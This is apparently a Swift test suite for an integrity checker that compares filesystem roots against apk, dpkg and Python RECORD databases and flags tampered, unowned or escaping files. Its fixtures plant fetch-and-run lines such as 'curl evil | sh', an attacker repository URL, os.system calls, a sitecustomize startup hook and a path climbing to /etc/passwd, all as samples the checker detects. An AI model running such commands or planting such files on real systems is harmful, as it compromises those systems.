import Catalog
import Crypto
import Drift
import Foundation
import ProvenantCore
import Testing
import TestSupport

/// Small hand-made roots: Alpine's database, Python RECORDs, a dpkg database with diversions and conffile
/// states, links that leave the root.
@Suite struct VerifyFilesRootsTests {
    /// apk's protected paths (`+etc`, `@etc/init.d`, `!etc/apk`): a changed init script or signing key
    /// is a modified package file, not an edited configuration file (found by helper-131).
    @Test func apkInitScriptsAndKeysAreNotConfiguration() throws {
        let root = try TestRoot.make("verify-apk-protected")
        defer { try? FileManager.default.removeItem(at: root) }
        let sshd = "#!/sbin/openrc-run\n", key = "-----BEGIN PUBLIC KEY-----\n", repos = "https://dl-cdn.alpinelinux.org/alpine/v3.19/main\n"
        let conf = "Port 22\n"
        try TestRoot.write(root, "etc/init.d/sshd", sshd + "curl evil | sh\n", mode: 0o755)
        try TestRoot.write(root, "etc/apk/keys/alpine.rsa.pub", key + "other\n")
        try TestRoot.write(root, "etc/apk/repositories", repos + "https://evil.example/alpine\n")
        try TestRoot.write(root, "etc/ssh/sshd_config", conf + "PermitRootLogin yes\n")
        try TestRoot.write(root, "lib/apk/db/installed", """
            P:openssh
            V:9.6_p1-r0
            F:etc/init.d
            R:sshd
            Z:\(TestRoot.apkHash(sshd))
            F:etc/apk/keys
            R:alpine.rsa.pub
            Z:\(TestRoot.apkHash(key))
            F:etc/apk
            R:repositories
            Z:\(TestRoot.apkHash(repos))
            F:etc/ssh
            R:sshd_config
            Z:\(TestRoot.apkHash(conf))

            """)
        let r = try VerifyRun.run(root.path)
        #expect(r.rule("files:modified") == ["/etc/apk/keys/alpine.rsa.pub", "/etc/apk/repositories", "/etc/init.d/sshd"], "\(r.findings)")
        #expect(r.rule("files:conffile-modified") == ["/etc/ssh/sshd_config"], "\(r.findings)")
    }

    @Test func apkDigestsMissingConfigAndUnowned() throws {
        let root = try TestRoot.make("verify-apk")
        defer { try? FileManager.default.removeItem(at: root) }
        let busybox = "\u{7f}ELF busybox", motd = "Welcome to Alpine!\n", libc = "musl libc"
        try TestRoot.write(root, "bin/busybox", busybox + "patched", mode: 0o755)
        try TestRoot.write(root, "etc/motd", motd + "owned\n")
        try TestRoot.write(root, "lib/ld-musl-x86_64.so.1", libc, mode: 0o755)
        try TestRoot.link(root, "bin/sh", to: "/bin/busybox")
        try TestRoot.link(root, "bin/ls", to: "/bin/toybox")
        // A file apk installed (no `a:0:0:777`) swapped for a link whose target text is the file's old
        // content: judged as a link, its digest matched (found by helper-73).
        let swapped = "x/y"
        try TestRoot.write(root, "bin/x/y", "implant", mode: 0o755)
        try TestRoot.link(root, "bin/swapped", to: swapped)
        // And the mirror: a link apk installed, now a regular file holding its old target text (review).
        try TestRoot.write(root, "bin/was-link", "busybox", mode: 0o755)
        try TestRoot.write(root, "usr/bin/dropper", "#!/bin/sh\n", mode: 0o755)
        try TestRoot.write(root, "lib/apk/db/installed", """
            C:Q1abc=
            P:busybox
            V:1.36.1-r5
            F:bin
            R:busybox
            Z:\(TestRoot.apkHash(busybox))
            R:sh
            a:0:0:777
            Z:\(TestRoot.apkHash("/bin/busybox"))
            R:ls
            a:0:0:777
            Z:\(TestRoot.apkHash("/bin/busybox"))
            R:swapped
            Z:\(TestRoot.apkHash(swapped))
            R:was-link
            a:0:0:777
            Z:\(TestRoot.apkHash("busybox"))
            R:gone
            Z:\(TestRoot.apkHash("x"))
            F:etc
            R:motd
            Z:\(TestRoot.apkHash(motd))

            P:musl
            V:1.2.4-r2
            F:lib
            R:ld-musl-x86_64.so.1
            Z:\(TestRoot.apkHash(libc))
            R:odd
            Z:X1notadigest

            V:1.0

            """)
        try TestRoot.write(root, "lib/odd", "odd")
        let r = try VerifyRun.run(root.path)
        #expect(r.code == 0, "\(r.err)")
        #expect(r.rule("files:modified") == ["/bin/busybox", "/bin/ls", "/bin/swapped", "/bin/was-link"],
                "a changed binary, a link whose target text changed, and a file swapped for a link: \(r.findings)")
        #expect(r.rule("files:conffile-modified") == ["/etc/motd"], "apk's /etc is configuration")
        #expect(r.rule("files:missing") == ["/bin/gone"])
        #expect(r.rule("files:unowned") == ["/bin/x/y", "/usr/bin/dropper"], "claimed files are not unowned; the link's target is: \(r.findings)")
        #expect(r.findings.allSatisfy { $0.rule == "files:unowned" || $0.source == "apk" })
        #expect(r.notChecked.contains { $0.contains("/lib/apk/db/installed:29") && $0.contains("X1notadigest") }, "\(r.notChecked)")
        #expect(r.diagnostics.contains { $0.hasPrefix("/lib/apk/db/installed:32:") }, "the record without P: is named by line: \(r.diagnostics)")
        #expect((r.summary["packages"] as? [String: Int]) == ["apk": 2])
    }

    /// A distribution whose RECORD is gone or not a regular file, and a dpkg database whose status is
    /// gone while its info directory remains, are NOT CHECKED, not absent (found by helper-73).
    @Test func databasesTakenAwayAreNotChecked() throws {
        let root = try TestRoot.make("verify-taken")
        defer { try? FileManager.default.removeItem(at: root) }
        let sp = "usr/lib/python3/site-packages"
        try TestRoot.write(root, "\(sp)/foo/__init__.py", "import evil\n")
        try TestRoot.write(root, "\(sp)/foo-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: foo\nVersion: 1.0\n")
        try TestRoot.link(root, "\(sp)/foo-1.0.dist-info/RECORD", to: "/nonexistent/RECORD")
        try TestRoot.write(root, "\(sp)/bar/__init__.py", "x = 1\n")
        try TestRoot.write(root, "\(sp)/bar-2.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: bar\nVersion: 2.0\n")
        try TestRoot.write(root, "\(sp)/bar-2.0.dist-info/RECORD", "bar/__init__.py,\(TestRoot.recordHash("x = 1\n")),6\nbar-2.0.dist-info/RECORD,,\n")
        try TestRoot.write(root, "var/lib/dpkg/info/a.list", "/usr/share/doc/a/README\n")
        try TestRoot.write(root, "usr/share/doc/a/README", "tampered\n")
        let r = try VerifyRun.run(root.path, ["--fail-on", "low"])
        #expect(r.code == 1, "\(r.err)")
        #expect(r.notChecked.contains { $0.contains("foo-1.0.dist-info/RECORD") && $0.contains("no RECORD that is a regular file") }, "\(r.notChecked)")
        #expect(!r.notChecked.contains { $0.contains("bar-2.0") }, "\(r.notChecked)")
        #expect(r.notChecked.contains { $0.contains("/var/lib/dpkg/status") && $0.contains("dpkg status is missing") }, "\(r.notChecked)")

        // The variants review found: METADATA gone with RECORD, an emptied RECORD, an emptied status.
        let root2 = try TestRoot.make("verify-taken-2")
        defer { try? FileManager.default.removeItem(at: root2) }
        try TestRoot.write(root2, "\(sp)/baz/__init__.py", "evil\n")
        try TestRoot.write(root2, "\(sp)/baz-1.0.dist-info/INSTALLER", "pip\n")
        try TestRoot.write(root2, "\(sp)/qux/__init__.py", "evil\n")
        try TestRoot.write(root2, "\(sp)/qux-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: qux\nVersion: 1.0\n")
        try TestRoot.write(root2, "\(sp)/qux-1.0.dist-info/RECORD", "")
        try TestRoot.write(root2, "var/lib/dpkg/status", "")
        try TestRoot.write(root2, "var/lib/dpkg/info/a.list", "/usr/share/doc/a/README\n")
        try TestRoot.write(root2, "usr/share/doc/a/README", "tampered\n")
        let r2 = try VerifyRun.run(root2.path, ["--fail-on", "low"])
        #expect(r2.code == 1, "\(r2.err)")
        #expect(r2.notChecked.contains { $0.contains("baz-1.0.dist-info/RECORD") }, "\(r2.notChecked)")
        #expect(r2.notChecked.contains { $0.contains("qux-1.0.dist-info/RECORD") && $0.contains("lists no file") }, "\(r2.notChecked)")
        #expect(r2.notChecked.contains { $0.contains("info/a.list") && $0.contains("does not record") }, "\(r2.notChecked)")
        // A package switched off in status (purge ok not-installed) while its .list stays (review).
        try TestRoot.write(root2, "var/lib/dpkg/status", "Package: a\nStatus: purge ok not-installed\n\n")
        let r3 = try VerifyRun.run(root2.path, ["--fail-on", "low"])
        #expect(r3.notChecked.contains { $0.contains("info/a.list") }, "\(r3.notChecked)")
    }

    /// A RECORD rewritten to list only itself claimed nothing, so the module beside it went unseen and
    /// the root passed. Python code below site-packages that nothing claims is now an unowned file; one
    /// a RECORD or dpkg claims, and compiled files, are not.
    @Test func pythonCodeNobodyClaimsIsUnowned() throws {
        let root = try TestRoot.make("verify-unclaimed-python")
        defer { try? FileManager.default.removeItem(at: root) }
        let sp = "usr/lib/python3/dist-packages"
        try TestRoot.write(root, "\(sp)/evil/__init__.py", "import os\nos.system('curl x | sh')\n")
        try TestRoot.write(root, "\(sp)/evil-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n")
        try TestRoot.write(root, "\(sp)/evil-1.0.dist-info/RECORD", "evil-1.0.dist-info/RECORD,,\n")
        try TestRoot.write(root, "\(sp)/zz-startup.pth", "import evil\n")
        try TestRoot.write(root, "\(sp)/good/__init__.py", "x = 1\n")
        try TestRoot.write(root, "\(sp)/good/__pycache__/__init__.cpython-311.pyc", "compiled")
        try TestRoot.write(root, "\(sp)/good-2.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: good\nVersion: 2.0\n")
        try TestRoot.write(root, "\(sp)/good-2.0.dist-info/RECORD", "good/__init__.py,\(TestRoot.recordHash("x = 1\n")),6\ngood-2.0.dist-info/RECORD,,\n")
        // Review: site-packages too; a compiled module without its source (imported as one); code a
        // RECORD lists without a hash; and legacy installs, whose lists claim their files.
        let site = "usr/local/lib/python3.11/site-packages"
        try TestRoot.write(root, "\(site)/sourceless.pyc", "compiled")
        try TestRoot.write(root, "\(site)/dropped.py", "evil\n")
        try TestRoot.write(root, "\(site)/nohash.py", "evil\n")
        try TestRoot.distribution(root, site, "six", unhashed: ["nohash.py"])
        try TestRoot.write(root, "\(site)/legacy/__init__.py", "y = 2\n")
        try TestRoot.write(root, "\(site)/legacy-1.0-py3.11.egg-info/PKG-INFO", "Name: legacy\n")
        try TestRoot.write(root, "\(site)/legacy-1.0-py3.11.egg-info/installed-files.txt", "../legacy/__init__.py\nPKG-INFO\n")
        try TestRoot.write(root, "\(site)/eggy-1.0-py3.11.egg/EGG-INFO/PKG-INFO", "Name: eggy\n")
        try TestRoot.write(root, "\(site)/eggy-1.0-py3.11.egg/eggy/__init__.py", "z = 3\n")
        let r = try VerifyRun.run(root.path, ["--fail-on", "low"])
        let unowned = Set(r.findings.filter { $0.rule.contains("unowned") }.map(\.path))
        #expect(r.code == 1 && unowned == ["/\(sp)/evil/__init__.py", "/\(sp)/zz-startup.pth", "/\(site)/sourceless.pyc", "/\(site)/dropped.py"],
                "\(r.findings.map { "\($0.rule) \($0.path)" }) \(r.err)")
        #expect(r.notChecked.contains { $0.contains("six-1.0.dist-info/RECORD") && $0.contains("'nohash.py' has no hash") }, "\(r.notChecked)")
        // Legacy installs claim their files but record no digests: not unowned, and not checked (review).
        #expect(r.notChecked.contains { $0.contains("legacy-1.0-py3.11.egg-info/installed-files.txt") && $0.contains("without digests") }, "\(r.notChecked)")
        #expect(r.notChecked.contains { $0.contains("eggy-1.0-py3.11.egg") && $0.contains("not checked") }, "\(r.notChecked)")
    }

    /// Virtual environments outside the program directories (`/opt/venv`, `/srv/app/.venv`) hold what a
    /// program imports, and were never walked (found by review): their code is checked like any other.
    @Test func virtualEnvironmentsElsewhereAreWalked() throws {
        let root = try TestRoot.make("verify-venvs")
        defer { try? FileManager.default.removeItem(at: root) }
        try TestRoot.write(root, "var/lib/dpkg/status", "")
        for venv in ["opt/venv", "srv/app/.venv"] {
            let site = "\(venv)/lib/python3.11/site-packages"
            try TestRoot.write(root, "\(venv)/pyvenv.cfg", "home = /usr/bin\n")
            try TestRoot.distribution(root, site, "six")
            try TestRoot.write(root, "\(site)/added.py", "import os\n")
            try TestRoot.write(root, "\(venv)/bin/activate", "# sourced\n")
        }
        // Four deep is past the search, and a venv's own files are not searched for more venvs.
        try TestRoot.write(root, "a/b/c/d/pyvenv.cfg", "home = /usr/bin\n")
        try TestRoot.write(root, "a/b/c/d/lib/python3.11/site-packages/deep.py", "import os\n")
        // A modified module is found too: the RECORD is read.
        try TestRoot.write(root, "opt/venv/lib/python3.11/site-packages/six.py", "x = 2\n")
        let r = try VerifyRun.run(root.path, ["--fail-on", "low"])
        let unowned = Set(r.findings.filter { $0.rule.contains("unowned") }.map(\.path))
        #expect(unowned == ["/opt/venv/lib/python3.11/site-packages/added.py", "/srv/app/.venv/lib/python3.11/site-packages/added.py"],
                "\(r.findings.map { "\($0.rule) \($0.path)" }) \(r.err)")
        #expect(r.code == 1 && r.findings.contains { $0.path == "/opt/venv/lib/python3.11/site-packages/six.py" && !$0.rule.contains("unowned") },
                "\(r.findings.map { "\($0.rule) \($0.path)" })")
    }

    /// The walk follows no link, so a module or package directory added as a symbolic link below
    /// site-packages went unreported (found by review). Unclaimed links to code or to a directory are
    /// unowned; one to data is not. A link a package claims was passed over too, wherever it led: a
    /// claimed module retargeted to code nothing claims is unowned, and a claimed package directory
    /// turned into a link out of the walk is not checked (found by helper-170).
    @Test func pythonLinksNobodyClaimsAreUnowned() throws {
        let root = try TestRoot.make("verify-python-links")
        defer { try? FileManager.default.removeItem(at: root) }
        let site = "usr/local/lib/python3.11/site-packages"
        try TestRoot.write(root, "srv/payload/__init__.py", "import os\n")
        try TestRoot.write(root, "srv/payload.py", "import os\n")
        try TestRoot.write(root, "srv/data.txt", "words\n")
        try TestRoot.distribution(root, site, "six", unhashed: ["claimed.py", "claimeddir", "claimednotes.txt", "claimedsix.py"])
        for (link, target) in [("requests", "/srv/payload"), ("urllib4.py", "../../../../../srv/payload.py"), ("claimed.py", "/srv/payload.py"),
                               ("notes.txt", "/srv/data.txt"), ("dangling.py", "/srv/missing.py"), ("claimeddir", "/srv/payload"),
                               ("claimednotes.txt", "/srv/data.txt"), ("claimedsix.py", "six.py")] {
            try TestRoot.link(root, "\(site)/" + link, to: target)
        }
        let r = try VerifyRun.run(root.path, ["--fail-on", "low"])
        let unowned = Set(r.findings.filter { $0.rule.contains("unowned") }.map(\.path))
        #expect(r.code == 1 && unowned == ["/\(site)/requests", "/\(site)/urllib4.py", "/\(site)/dangling.py", "/\(site)/claimed.py"],
                "\(r.findings.map { "\($0.rule) \($0.path)" }) \(r.err)")
        #expect(r.findings.contains { $0.path == "/\(site)/claimed.py" && $0.note?.contains("a package claims") == true })
        #expect(r.notChecked.contains { $0.hasPrefix("/\(site)/claimeddir:") && $0.hasSuffix("symbolic link to /srv/payload, a directory outside the walked directories: imports load it as a package, and its files are not walked for unowned code") },
                "\(r.notChecked)")
        #expect(!r.notChecked.contains { $0.hasPrefix("/\(site)/claimednotes.txt:") || $0.hasPrefix("/\(site)/claimedsix.py:") }, "\(r.notChecked)")
    }

    /// A compiled cache Python loads in place of a checked module's source passed as all checked
    /// (found by helper-170): no database records its digest, dpkg's none, pip's RECORD lists it without
    /// a hash. One loaded without a look at its source is unowned code; one checked against its
    /// source's time and size, or hash, may still hold other code: NOT CHECKED, counted once.
    @Test func compiledCachesAreNotPassedAsChecked() throws {
        let root = try TestRoot.make("verify-python-caches")
        defer { try? FileManager.default.removeItem(at: root) }
        let site = "usr/local/lib/python3.11/site-packages"
        try TestRoot.distribution(root, site, "six", unhashed: ["__pycache__/six.cpython-311.pyc"])
        let magic: [UInt8] = [0xA7, 0x0D, 0x0D, 0x0A]
        func cache(_ flags: UInt8) -> [UInt8] { magic + [flags, 0, 0, 0] + [UInt8](repeating: 7, count: 8) + [0xE3, 0, 0, 0] }
        // Claimed without a hash and checked against its source's time and size: not checked.
        try TestRoot.write(root, "\(site)/__pycache__/six.cpython-311.pyc", cache(0))
        // Nobody's, hash-based and checked: not checked either.
        try TestRoot.write(root, "\(site)/__pycache__/extra.cpython-311.pyc", cache(3))
        // Nobody's, hash-based and never checked: Python runs it whatever the source says.
        try TestRoot.write(root, "\(site)/__pycache__/planted.cpython-311.pyc", cache(1))
        // No cache at all: Python ignores it.
        try TestRoot.write(root, "\(site)/__pycache__/junk.cpython-311.pyc", "not a cache\n")
        // Python 3.6's (magic 3379): the word after the magic is the source's time, whose low bit says
        // nothing of hashes (found by review).
        try TestRoot.write(root, "\(site)/__pycache__/old.cpython-36.pyc", [0x33, 0x0D, 0x0D, 0x0A, 0x01, 0x5B, 0x3C, 0x65, 6, 0, 0, 0, 0xE3])
        // A link where a cache belongs loads whatever it leads to (found by review).
        try TestRoot.write(root, "srv/evil.pyc", cache(1))
        try TestRoot.link(root, "\(site)/__pycache__/linked.cpython-311.pyc", to: "/srv/evil.pyc")
        let r = try VerifyRun.run(root.path, ["--fail-on", "high"])
        #expect(r.rule("files:unowned") == ["/\(site)/__pycache__/planted.cpython-311.pyc", "/\(site)/__pycache__/linked.cpython-311.pyc"],
                "\(r.findings.map { "\($0.rule) \($0.path)" }) \(r.err)")
        #expect(r.notChecked.contains { $0.contains("3 compiled Python caches where imports look") }, "\(r.notChecked)")
        #expect(r.code == 1)
        // Without them (and the RECORD's row), the distribution is all checked.
        try TestRoot.distribution(root, site, "six")
        for name in ["six.cpython-311", "extra.cpython-311", "planted.cpython-311", "junk.cpython-311", "old.cpython-36", "linked.cpython-311"] {
            try FileManager.default.removeItem(at: root.appendingPathComponent("\(site)/__pycache__/\(name).pyc"))
        }
        let clean = try VerifyRun.run(root.path, ["--fail-on", "low"])
        #expect(clean.code == 0 && !clean.notChecked.contains { $0.contains("compiled Python cache") }, "\(clean.notChecked) \(clean.findings.map(\.path))")
    }

    /// Only site-packages was walked for Python code: a `sitecustomize.py` planted in the interpreter's
    /// own library directory, which runs at every start, passed (found by helper-170).
    @Test func pythonCodeInTheInterpretersLibraryIsUnowned() throws {
        let root = try TestRoot.make("verify-python-stdlib")
        defer { try? FileManager.default.removeItem(at: root) }
        try TestRoot.write(root, "usr/lib/python3.11/os.py", "import sys\n")
        try TestRoot.write(root, "usr/lib/python3.11/sitecustomize.py", "import os; os.system('id')\n")
        try TestRoot.write(root, "usr/lib/python3.11/LICENSE.txt", "words\n")
        try TestRoot.write(root, "var/lib/dpkg/status", "Package: libpython3.11-stdlib\nStatus: install ok installed\nArchitecture: amd64\nVersion: 3.11.2-6\n\n")
        try TestRoot.write(root, "var/lib/dpkg/info/libpython3.11-stdlib:amd64.list", "/.\n/usr\n/usr/lib\n/usr/lib/python3.11\n/usr/lib/python3.11/os.py\n/usr/lib/python3.11/LICENSE.txt\n")
        try TestRoot.write(root, "var/lib/dpkg/info/libpython3.11-stdlib:amd64.md5sums",
                           "\(try TestRoot.md5("import sys\n"))  usr/lib/python3.11/os.py\n\(try TestRoot.md5("words\n"))  usr/lib/python3.11/LICENSE.txt\n")
        let r = try VerifyRun.run(root.path, ["--fail-on", "high"])
        #expect(r.code == 1 && r.rule("files:unowned") == ["/usr/lib/python3.11/sitecustomize.py"], "\(r.findings.map { "\($0.rule) \($0.path)" }) \(r.err)")
    }

    @Test func pythonRecordModifiedMissingAndEscaping() throws {
        let dir = try TestRoot.make("verify-python")
        defer { try? FileManager.default.removeItem(at: dir) }
        let root = dir.appendingPathComponent("root")
        let site = "usr/lib/python3.11/site-packages"
        let initPy = "VERSION = '1.0'\n", mod = "def f(): pass\n", cli = "#!/usr/bin/python3\nimport foo\n", hexed = "# hex digest\n"
        let secret = "root:x:0:0::/root:/bin/sh\n"
        // What the escaping row names, outside the root: with its exact digest, so reading it would pass.
        try TestRoot.write(dir, "etc/passwd", secret)
        try TestRoot.write(root, "\(site)/foo/__init__.py", initPy)
        try TestRoot.write(root, "\(site)/foo/mod.py", mod + "import os; os.system('curl evil')\n")
        try TestRoot.write(root, "\(site)/foo/hexed.py", hexed)
        try TestRoot.write(root, "usr/bin/foo-cli", cli, mode: 0o755)
        // A file replaced by a link climbing out of the root to a copy with the recorded digest.
        try TestRoot.write(dir, "outside/link.py", mod)
        try TestRoot.link(root, "\(site)/foo/link.py", to: "../../../../../../../outside/link.py")
        let hexDigest = FileDigest.sha256(Array(hexed.utf8)).value
        try TestRoot.write(root, "\(site)/foo-1.0.dist-info/RECORD", """
            foo/__init__.py,\(TestRoot.recordHash(initPy)),\(initPy.utf8.count)
            foo/mod.py,\(TestRoot.recordHash(mod)),\(mod.utf8.count)
            foo/gone.py,\(TestRoot.recordHash("x")),1
            foo/hexed.py,sha256=\(hexDigest),\(hexed.utf8.count)
            foo/link.py,\(TestRoot.recordHash(mod)),\(mod.utf8.count)
            foo/__pycache__/__init__.cpython-311.pyc,,
            ../../../bin/foo-cli,\(TestRoot.recordHash(cli)),\(cli.utf8.count)
            ../../../../../etc/passwd,\(TestRoot.recordHash(secret)),\(secret.utf8.count)
            foo/weird.py,md5=abc,3
            foo-1.0.dist-info/RECORD,,
            /usr/bin/implant,,
            ../../../bin/RECORD,,

            """)
        try TestRoot.write(root, "\(site)/foo/weird.py", "abc")
        // A row without a hash claiming a program anywhere in the root (found by helper-142).
        try TestRoot.write(root, "usr/bin/implant", "#!/bin/sh\n", mode: 0o755)
        // Nor by a name installers leave unhashed, outside its place (helper-143).
        try TestRoot.write(root, "usr/bin/RECORD", "#!/bin/sh\n", mode: 0o755)
        let r = try VerifyRun.run(root.path)
        #expect(r.code == 0, "\(r.err)")
        #expect(r.rule("files:modified") == ["/\(site)/foo/mod.py", "/\(site)/foo/link.py"], "\(r.findings)")
        let link = try #require(r.findings.first { $0.path.hasSuffix("link.py") })
        #expect(link.check == "?M???????", "the link is a changed file type and is not followed out of the root: \(link)")
        #expect(r.rule("files:missing") == ["/\(site)/foo/gone.py"], "a .pyc without a hash need not exist: \(r.findings)")
        #expect(r.rule("files:unowned").isEmpty, "../../../bin/foo-cli claims usr/bin/foo-cli: \(r.findings)")
        #expect(r.findings.allSatisfy { $0.source == "python" })
        #expect(r.notChecked.contains { $0.contains("RECORD:8:") && $0.contains("leaves the root") }, "\(r.notChecked)")
        #expect(r.notChecked.contains { $0.contains("RECORD:9:") && $0.contains("md5=abc") }, "\(r.notChecked)")
        #expect(r.notChecked.contains { $0.contains("RECORD:11:") && $0.contains("has no hash") }, "\(r.notChecked)")
        #expect(r.notChecked.contains { $0.contains("RECORD:12:") && $0.contains("has no hash") }, "\(r.notChecked)")
        #expect(!r.notChecked.contains { $0.contains("RECORD:6:") || $0.contains("RECORD:10:") }, "a .pyc and the RECORD need no hash: \(r.notChecked)")
        #expect((r.summary["filesChecked"] as? Int) == 6, "__init__, mod, gone, hexed, link, foo-cli")
        #expect(try VerifyRun.run(root.path, ["--fail-on", "critical"]).code == 1, "NOT CHECKED rows fail --fail-on")
        #expect(try VerifyRun.run(root.path, ["--fail-on", "critical", "--allow-unchecked"]).code == 0)
    }

    /// A dpkg database made by hand: the cases `dpkg --verify` has rules for, with dpkg itself run on the
    /// same root for everything but the diversion, where verify-files checks the content dpkg does not.
    @Test func dpkgStatesConffilesAndDiversions() throws {
        let root = try TestRoot.make("verify-dpkg")
        defer { try? FileManager.default.removeItem(at: root) }
        let tool = "#!/bin/sh\necho tool\n", conf = "setting=1\n", doc = "docs\n", other = "other\n"
        try TestRoot.write(root, "usr/bin/tool.distrib", tool + "# patched\n", mode: 0o755)
        try TestRoot.write(root, "usr/bin/tool", "#!/bin/sh\necho local\n", mode: 0o755)
        try TestRoot.write(root, "etc/tool.conf", conf + "edited=1\n")
        try TestRoot.write(root, "etc/tool-new.conf", conf)
        try TestRoot.write(root, "etc/tool-old.conf", conf + "x\n")
        try TestRoot.write(root, "usr/share/doc/tool/README", doc)
        try TestRoot.write(root, "usr/share/doc/half/README", doc + "x\n")
        try TestRoot.write(root, "usr/share/doc/rc/README", other + "x\n")
        try TestRoot.write(root, "usr/share/doc/gone/README", other + "x\n")
        let info = "var/lib/dpkg/info"
        try TestRoot.write(root, "var/lib/dpkg/status", """
            Package: tool
            Status: install ok installed
            Architecture: amd64
            Version: 1.0
            Conffiles:
             /etc/tool.conf \(try TestRoot.md5(conf))
             /etc/tool-new.conf newconffile
             /etc/tool-old.conf \(try TestRoot.md5(conf)) obsolete

            Package: half
            Status: install ok half-configured
            Architecture: all
            Version: 1.0

            Package: rc
            Status: deinstall ok config-files
            Architecture: all
            Version: 1.0

            Package: gone
            Status: purge ok not-installed
            Architecture: all

            """)
        try TestRoot.write(root, "\(info)/tool.list", "/.\n/usr\n/usr/bin\n/usr/bin/tool\n/etc\n/etc/tool.conf\n/etc/tool-new.conf\n/etc/tool-old.conf\n/usr/share/doc/tool/README\n/usr/share/doc/tool/missing-dir\n")
        try TestRoot.write(root, "\(info)/tool.md5sums", "\(try TestRoot.md5(tool))  usr/bin/tool\n\(try TestRoot.md5(doc))  usr/share/doc/tool/README\n")
        try TestRoot.write(root, "\(info)/half.list", "/usr/share/doc/half/README\n")
        try TestRoot.write(root, "\(info)/half.md5sums", "\(try TestRoot.md5(doc))  usr/share/doc/half/README\n")
        try TestRoot.write(root, "\(info)/rc.list", "/usr/share/doc/rc/README\n")
        try TestRoot.write(root, "\(info)/rc.md5sums", "\(try TestRoot.md5(other))  usr/share/doc/rc/README\n")
        try TestRoot.write(root, "\(info)/gone.list", "/usr/share/doc/gone/README\n")
        try TestRoot.write(root, "\(info)/gone.md5sums", "\(try TestRoot.md5(other))  usr/share/doc/gone/README\n")
        // The administrator moved the packaged tool aside and put their own in its place.
        try TestRoot.write(root, "var/lib/dpkg/diversions", "/usr/bin/tool\n/usr/bin/tool.distrib\n:\n")

        let r = try VerifyRun.run(root.path)
        #expect(r.code == 0, "\(r.err)")
        #expect(r.rule("files:modified") == ["/usr/bin/tool.distrib", "/usr/share/doc/half/README", "/usr/share/doc/rc/README"], "\(r.findings)")
        #expect(r.rule("files:conffile-modified") == ["/etc/tool.conf", "/etc/tool-new.conf", "/etc/tool-old.conf"],
                "newconffile never matches, as in dpkg; an obsolete conffile is still checked: \(r.findings)")
        #expect(r.rule("files:missing") == ["/usr/share/doc/tool/missing-dir"], "a .list directory is looked for too")
        #expect(r.rule("files:unowned") == ["/usr/bin/tool"], "the local file in the diverted path is nobody's: \(r.findings)")
        #expect((r.summary["packages"] as? [String: Int]) == ["dpkg": 3], "not-installed is not read")

        // dpkg itself agrees on everything but the diverted file, whose content it never checks.
        let dpkg = try runProcess("dpkg", ["--verify", "--root=\(root.path)"])
        let theirs = Set(dpkg.out.split(separator: "\n").map(String.init))
        let table = try runProcess(provenantBinary, ["verify-files", root.path]).out
        let mine = Set(table.split(separator: "\n").map(String.init).filter { !$0.contains(" [") && !$0.hasPrefix("verify-files:") })
        #expect(theirs.count == 6, "\(dpkg.out) \(dpkg.err)")
        #expect(mine.subtracting(["??5??????   /usr/bin/tool.distrib"]) == theirs, "only ours: \(mine.subtracting(theirs)); only dpkg's: \(theirs.subtracting(mine)) \(dpkg.err)")

        // Malformed lines (which stop dpkg) are named by file and line, and the rest is read.
        try TestRoot.write(root, "var/lib/dpkg/status", """
            Package: tool
            Status: install ok installed
            Version: 1.0
            Conffiles:
             /etc/tool.conf \(try TestRoot.md5(conf))
             broken

            Status: install ok installed

            """)
        try TestRoot.write(root, "\(info)/tool.md5sums", "\(try TestRoot.md5(tool))  usr/bin/tool\n\(try TestRoot.md5(doc))  usr/share/doc/tool/README\nnot-a-line\n")
        let bad = try VerifyRun.run(root.path)
        #expect(bad.code == 0, "\(bad.err)")
        #expect(bad.diagnostics.contains { $0.hasPrefix("/var/lib/dpkg/status:6:") && $0.contains("conffile line") }, "\(bad.diagnostics)")
        #expect(bad.diagnostics.contains { $0.hasPrefix("/var/lib/dpkg/status:8:") && $0.contains("without a Package") }, "\(bad.diagnostics)")
        #expect(bad.diagnostics.contains { $0.hasPrefix("/var/lib/dpkg/info/tool.md5sums:3:") }, "\(bad.diagnostics)")
        #expect(bad.rule("files:conffile-modified") == ["/etc/tool.conf"])
    }

    @Test func aLinkOutOfTheRootIsNeverFollowed() throws {
        let dir = try TestRoot.make("verify-escape")
        defer { try? FileManager.default.removeItem(at: dir) }
        let root = dir.appendingPathComponent("root")
        let content = "packaged\n"
        try TestRoot.write(dir, "host-secret", content)
        // Links at every place a read could go: the packaged file, a directory on its way, a program directory.
        try TestRoot.link(root, "usr/share/doc/pkg/file", to: "../../../../../host-secret")
        try TestRoot.link(root, "usr/share/doc/other", to: "../../../../")
        try TestRoot.link(root, "usr/lib", to: "../../")
        try TestRoot.write(dir, "bin/outside-tool", "#!/bin/sh\n", mode: 0o755)
        try TestRoot.write(root, "var/lib/dpkg/status", "Package: pkg\nStatus: install ok installed\nVersion: 1\n")
        try TestRoot.write(root, "var/lib/dpkg/info/pkg.list", "/usr/share/doc/pkg/file\n/usr/share/doc/other/host-secret\n")
        try TestRoot.write(root, "var/lib/dpkg/info/pkg.md5sums",
                           "\(try TestRoot.md5(content))  usr/share/doc/pkg/file\n\(try TestRoot.md5(content))  usr/share/doc/other/host-secret\n")
        let r = try VerifyRun.run(root.path)
        #expect(r.code == 0, "\(r.err)")
        // Followed, the first would match (?M.) and the second would be clean.
        let file = try #require(r.findings.first { $0.path == "/usr/share/doc/pkg/file" })
        #expect(file.check == "?M???????" && file.rule == "files:modified", "\(file)")
        #expect(!r.findings.contains { $0.path == "/usr/share/doc/other/host-secret" && $0.rule != "files:missing" })
        #expect(r.notChecked.contains { $0.contains("/usr/share/doc/other/host-secret") && $0.contains("leaves") }, "\(r.notChecked)")
        #expect(r.rule("files:unowned").isEmpty, "usr/lib leads out of the root and is not walked: \(r.findings)")
    }

    @Test func aRootWithoutDatabaseIsAnInputError() throws {
        let root = try TestRoot.make("verify-empty")
        defer { try? FileManager.default.removeItem(at: root) }
        try TestRoot.write(root, "usr/bin/x", "x", mode: 0o755)
        #expect(throws: VerifyFilesError.noDatabase(root.path)) { try VerifyFiles(root: root.path).run() }
        let r = try runProcess(provenantBinary, ["verify-files", root.path])
        #expect(r.code == 2 && r.err.contains("no package database"), "\(r.err)")
        #expect(try runProcess(provenantBinary, ["verify-files", root.path + "/nope"]).code == 2)
